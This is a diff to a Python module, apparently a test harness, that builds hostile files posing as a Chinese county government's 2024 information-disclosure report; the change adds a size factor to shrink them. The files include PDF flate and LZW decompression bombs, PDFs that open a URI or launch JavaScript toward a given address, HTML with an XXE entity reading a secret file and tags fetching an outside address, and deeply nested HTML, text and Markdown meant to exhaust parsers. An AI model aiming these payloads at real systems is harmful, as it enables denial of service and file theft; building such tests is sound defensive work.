@@ -16,8 +16,11 @@ TITLE = "某县人民政府2024年政府信息公开工作年度报告"
 _W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 
 
-def bombs(secret: str, address: str) -> dict[str, bytes]:
-    return {**_pdf_bombs(secret, address), **_zip_bombs(secret, address), **_text_bombs(secret, address)}
+def bombs(secret: str, address: str, size: float = 1.0) -> dict[str, bytes]:
+    """All of them. `size` below 1 makes those smaller whose harm grows with their length: they end sooner, and what
+    takes the square of its length still shows."""
+    pdfs, texts = _pdf_bombs(secret, address, size), _text_bombs(secret, address, size)
+    return {**pdfs, **_zip_bombs(secret, address), **texts}
 
 
 # ------------------------------------------------------------------------------------------------ PDF
@@ -52,24 +55,24 @@ def _flated(content: bytes) -> bytes:
     return stream(zlib.compress(content, 9), b"/Filter /FlateDecode")
 
 
-def _flate_bomb(gigabytes: int, times: int = 1) -> bytes:
+def _flate_bomb(gigabytes: float, times: int = 1) -> bytes:
     """Zeros, packed once by the megabyte: blocks that end with a full flush may be repeated."""
     packer = zlib.compressobj(9, zlib.DEFLATED, -15)
     block = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
-    content = b"\x78\xda" + block * (gigabytes * 1000)
+    content = b"\x78\xda" + block * int(gigabytes * 1000)
     for _ in range(times - 1):
         content = zlib.compress(content, 9)
     return stream(content, b"/Filter [%b]" % (b"/FlateDecode " * times))
 
 
-def _lzw(megabytes: int) -> bytes:
+def _lzw(megabytes: float) -> bytes:
     """Codes of twelve bits that each stand for 4,000 times the byte before: the clear code starts them anew."""
     codes = [256, 0, *range(258, 258 + 253)]
-    bits = "".join(f"{code:09b}" for code in codes) * (megabytes * 1_000_000 // 32_000)
+    bits = "".join(f"{code:09b}" for code in codes) * int(megabytes * 1_000_000 / 32_000)
     return stream(int(bits, 2).to_bytes(-(-len(bits) // 8), "big"), b"/Filter /LZWDecode")
 
 
-def _pdf_bombs(secret: str, address: str) -> dict[str, bytes]:
+def _pdf_bombs(secret: str, address: str, size: float) -> dict[str, bytes]:
     font = b"/Font << /F1 5 0 R >>"
     shown = b"BT /F1 12 Tf 50 700 Td <0001> Tj ET"
     cid = b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding %b /DescendantFonts [6 0 R] %b >>"
@@ -80,13 +83,13 @@ def _pdf_bombs(secret: str, address: str) -> dict[str, bytes]:
         stream(b"/X Do " * 10, b"/Subtype /Form /Resources << /XObject << /X %d 0 R >> >>" % n)
         for n in range(6, 16)
     ]
-    nested = b"[" * 200_000 + b"]" * 200_000
+    nested = b"[" * int(200_000 * size) + b"]" * int(200_000 * size)
     fetched = b"/OpenAction << /S /URI /URI (%b) >>" % address.encode()
     script = b"/AA << /O << /S /Launch /F (%b) >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.launchURL\\('%b'\\)) >>] >> >>"
     return {
-        "flate.pdf": _page(_flate_bomb(2)),
-        "flate-in-flate.pdf": _page(_flate_bomb(8, times=2)),
-        "lzw.pdf": _page(_lzw(300)),
+        "flate.pdf": _page(_flate_bomb(2 * size)),
+        "flate-in-flate.pdf": _page(_flate_bomb(8 * size, times=2)),
+        "lzw.pdf": _page(_lzw(300 * size)),
         "predictor.pdf": _page(
             stream(
                 zlib.compress(b"0"),
@@ -152,14 +155,15 @@ def _pdf_bombs(secret: str, address: str) -> dict[str, bytes]:
             stream(b"/X Do /X Do", b"/Subtype /Form /Resources << /XObject << /X 5 0 R >> >>"),
         ),
         "operators.pdf": _page(
-            _flated(b"BT /F1 9 Tf 9 9 Td (a) Tj ET\n" * 800_000),
+            _flated(b"BT /F1 9 Tf 9 9 Td (a) Tj ET\n" * int(800_000 * size)),
             font,
             b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
         ),
         "lines.pdf": _page(
             _flated(
                 b"".join(
-                    b"%d %d m %d %d l S\n" % (n % 595, n % 842, n * 7 % 595, n % 842) for n in range(400_000)
+                    b"%d %d m %d %d l S\n" % (n % 595, n % 842, n * 7 % 595, n % 842)
+                    for n in range(int(400_000 * size))
                 )
             )
         ),
@@ -236,7 +240,7 @@ def _zip_bombs(secret: str, address: str) -> dict[str, bytes]:
 # ------------------------------------------------------------------------------------------------ web pages and text
 
 
-def _text_bombs(secret: str, address: str) -> dict[str, bytes]:
+def _text_bombs(secret: str, address: str, size: float) -> dict[str, bytes]:
     page = f"<html><head><title>{TITLE}</title></head><body><h1>{TITLE}</h1>"
     fetched = "".join(
         f'<{tag}="{address}">' for tag in ("img src", "script src", "iframe src", "link rel=stylesheet href")
@@ -244,26 +248,28 @@ def _text_bombs(secret: str, address: str) -> dict[str, bytes]:
     texts = {
         "entity.html": f'<!DOCTYPE html [<!ENTITY x SYSTEM "file://{secret}">]>{page}<p>&x;</p>',
         "fetches.html": f'{page}{fetched}<base href="{address}"><meta http-equiv=refresh content="0;url={address}">',
-        "deep.html": page + "<div>" * 1_000_000,
-        "deep-tables.html": page + "<table><tr><td>" * 100_000,
-        "cells.html": page + "<table>" + ("<tr>" + "<td>1" * 100) * 10_000,
+        "deep.html": page + "<div>" * int(1_000_000 * size),
+        "deep-tables.html": page + "<table><tr><td>" * int(100_000 * size),
+        "cells.html": page + "<table>" + ("<tr>" + "<td>1" * 100) * int(10_000 * size),
         "spans.html": page
         + "<table>"
         + '<tr><td colspan=1000000000 rowspan=1000000000>1<td colspan="65534" rowspan="65534">2' * 300,
-        "attributes.html": "<html><body " + " ".join(f"a{n}=1" for n in range(300_000)) + f">{TITLE}",
-        "angles.html": page + "<" * 2_000_000,
-        "ampersands.html": page + "&" * 2_000_000,
-        "comments.html": page + "<!--" * 500_000,
-        "digits.txt": f"{TITLE}\n一、总体情况\n" + "1" * 2_000_000,
-        "spaces.txt": f"{TITLE}\n一、总体情况\n" + " \t" * 1_000_000 + "x",
-        "brackets.txt": f"{TITLE}\n" + "（" * 500_000,
-        "numerals.txt": f"{TITLE}\n" + "一、二、" * 300_000,
-        "claims.txt": f"{TITLE}\n一、总体情况\n" + "收到政府信息公开申请1件，" * 100_000,
+        "attributes.html": "<html><body "
+        + " ".join(f"a{n}=1" for n in range(int(300_000 * size)))
+        + f">{TITLE}",
+        "angles.html": page + "<" * int(2_000_000 * size),
+        "ampersands.html": page + "&" * int(2_000_000 * size),
+        "comments.html": page + "<!--" * int(500_000 * size),
+        "digits.txt": f"{TITLE}\n一、总体情况\n" + "1" * int(2_000_000 * size),
+        "spaces.txt": f"{TITLE}\n一、总体情况\n" + " \t" * int(1_000_000 * size) + "x",
+        "brackets.txt": f"{TITLE}\n" + "（" * int(500_000 * size),
+        "numerals.txt": f"{TITLE}\n" + "一、二、" * int(300_000 * size),
+        "claims.txt": f"{TITLE}\n一、总体情况\n" + "收到政府信息公开申请1件，" * int(100_000 * size),
         "labels.txt": f"{TITLE}\n三、收到和处理政府信息公开申请情况\n"
-        + "（一）予以公开 1 1 1 1 1 1 1\n" * 100_000,
-        "title.txt": "关于" * 300_000 + TITLE,
-        "pipes.md": f"# {TITLE}\n\n" + "|" * 1_000_000 + "\n" + "|-" * 500_000,
-        "rows.md": f"# {TITLE}\n\n" + "| 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8 |\n" * 100_000,
+        + "（一）予以公开 1 1 1 1 1 1 1\n" * int(100_000 * size),
+        "title.txt": "关于" * int(300_000 * size) + TITLE,
+        "pipes.md": f"# {TITLE}\n\n" + "|" * int(1_000_000 * size) + "\n" + "|-" * int(500_000 * size),
+        "rows.md": f"# {TITLE}\n\n" + "| 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8 |\n" * int(100_000 * size),
         "controls.txt": f"{TITLE}\n".encode().decode()
         + "".join(map(chr, range(1, 32))) * 1000
         + "\u202e\u2066" * 1000,
